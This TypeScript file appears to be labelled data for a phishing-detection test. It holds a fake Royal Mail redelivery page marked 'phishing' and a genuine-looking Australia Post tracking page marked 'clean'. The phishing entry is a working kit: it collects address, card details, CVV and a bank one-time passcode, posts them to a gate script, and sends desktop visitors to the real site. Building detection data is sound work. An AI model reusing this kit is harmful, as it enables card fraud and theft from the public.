import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute, pngRoute } from '../parts/e-bin.js';
import { page, appCss, badge, wordmark, b64 } from '../parts/ya-kit.js';

export const entries: Entry[] = [
{
  id: 'ya-royal-mail-redelivery-mobile-cloak',
  label: 'phishing',
  kind: 'delivery-fee-kit',
  url: 'https://royalmail.redelivery-uk.help/track/?id=RM7712940GB',
  body: page({
    title: 'Royal Mail - Reschedule delivery',
    css: `body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f2f2f2;color:#333}
.hd{background:#da202a;color:#fff;padding:12px 18px;display:flex;align-items:center;gap:10px;font-weight:bold}
.hd i{display:inline-block;width:30px;height:30px;background:#fdda24;border-radius:4px;font-style:normal;color:#da202a;text-align:center;line-height:30px}
.c{max-width:460px;margin:16px auto;background:#fff;padding:20px;border-radius:4px}
.pk{display:flex;gap:12px;align-items:center;border:1px solid #eee;padding:12px;border-radius:4px;margin:12px 0}
.pk div:first-child{font-size:34px}
label{display:block;font-weight:bold;font-size:14px;margin:12px 0 5px}input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #999;border-radius:3px;font-size:16px}
.b{margin-top:18px;width:100%;background:#da202a;color:#fff;border:0;padding:13px;font-size:16px;font-weight:bold;border-radius:3px;cursor:pointer}
.st{display:none}.st.on{display:block}.row{display:flex;gap:10px}.row div{flex:1}`,
    body: `<div class="hd"><i>RM</i>Royal Mail</div>
<div class="c">
<div class="st on" id="a"><h2 style="margin-top:0">We've got an item for you</h2>
<div class="pk"><div>&#128230;</div><div><b id="ref"></b><br><span style="font-size:13px">We attempted to deliver your parcel but the delivery address was incomplete. A redelivery fee of <b>£1.45</b> is due.</span></div></div>
<label>Full name</label><input id="nm" autocomplete="name"><label>Address line 1</label><input id="ad1"><label>Town / city</label><input id="tw"><label>Postcode</label><input id="pc"><label>Mobile</label><input id="mb" type="tel">
<button class="b" data-n="b">Continue</button></div>
<div class="st" id="b"><h2 style="margin-top:0">Pay £1.45 redelivery fee</h2>
<label>Card number</label><input id="cc" inputmode="numeric" autocomplete="cc-number"><div class="row"><div><label>Expiry</label><input id="ex" placeholder="MM/YY"></div><div><label>CVV</label><input id="cv" maxlength="4"></div></div>
<button class="b" data-n="c">Pay £1.45</button></div>
<div class="st" id="c"><h2 style="margin-top:0">Verified by your bank</h2><p style="font-size:14px">Enter the one-time passcode sent to your mobile to authorise the payment.</p><label>Passcode</label><input id="ot" inputmode="numeric">
<button class="b" data-n="d">Submit</button></div>
</div>
<script>
if(!/Android|iPhone|iPad|Mobile/i.test(navigator.userAgent)){location.replace('https://www.royalmail.com/track-your-item');}
document.getElementById('ref').textContent=new URLSearchParams(location.search).get('id')||'';
document.querySelectorAll('[data-n]').forEach(function(b){b.onclick=function(){var o={};document.querySelectorAll('input').forEach(function(i){o[i.id]=i.value});o.s=b.dataset.n;
fetch('/track/gate.php',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(o)}).finally(function(){if(b.dataset.n==='d'){location.href='https://www.royalmail.com/';return;}document.querySelector('.st.on').classList.remove('on');document.getElementById(b.dataset.n).classList.add('on');});};});
</script>`,
  }),
  routes: { 'royalmail.redelivery-uk.help/track/gate.php': jsonRoute({ ok: 1 }) },
},
{
  id: 'ya-auspost-track-details-own-domain',
  label: 'clean',
  kind: 'delivery-own-domain',
  url: 'https://auspost.com.au/mypost/track/details/33LPK502718401000930304',
  body: page({
    title: 'Track your item - Australia Post',
    lang: 'en-AU',
    css: `body{margin:0;font-family:"AP Type",Arial,sans-serif;background:#f3f1ee;color:#212129}
.hd{background:#fff;border-bottom:1px solid #ddd;padding:12px 24px;display:flex;align-items:center;gap:10px}
.hd i{display:inline-block;width:32px;height:32px;border-radius:50%;background:#dc1928;font-style:normal;color:#fff;text-align:center;line-height:32px;font-weight:bold}
main{max-width:760px;margin:24px auto;background:#fff;padding:24px;border-radius:8px}
.ev{border-left:3px solid #dc1928;padding:4px 0 14px 16px;margin-left:6px;position:relative}
.ev::before{content:"";position:absolute;left:-7px;top:6px;width:11px;height:11px;border-radius:50%;background:#dc1928}
.ev small{color:#666}`,
    body: `<div class="hd"><i>P</i><b>Australia Post</b></div>
<main>
<h1 style="font-size:24px">33LPK502718401000930304</h1>
<p><b>Awaiting collection</b> – Your parcel is ready to collect from Parcel Locker, Carlton North VIC 3054. Collect by Mon 3 November.</p>
<div class="ev"><b>Awaiting collection</b><br><small>Carlton North VIC · Thu 23 Oct, 2:14pm</small></div>
<div class="ev"><b>Onboard for delivery</b><br><small>Carlton North VIC · Thu 23 Oct, 7:02am</small></div>
<div class="ev"><b>Processed through facility</b><br><small>Sunshine West VIC · Wed 22 Oct, 9:48pm</small></div>
<div class="ev"><b>Shipping information received</b><br><small>Tue 21 Oct, 4:31pm · Sender: Kilbride Plant Hire Pty Ltd</small></div>
<p style="font-size:13px;background:#fff4f4;padding:10px 12px;border-radius:4px">Australia Post will never ask you to pay a fee via SMS link to redeliver a parcel. <a href="https://auspost.com.au/about-us/about-our-site/online-security-scams-fraud">Learn about scams</a></p>
</main>`,
  }),
},
];
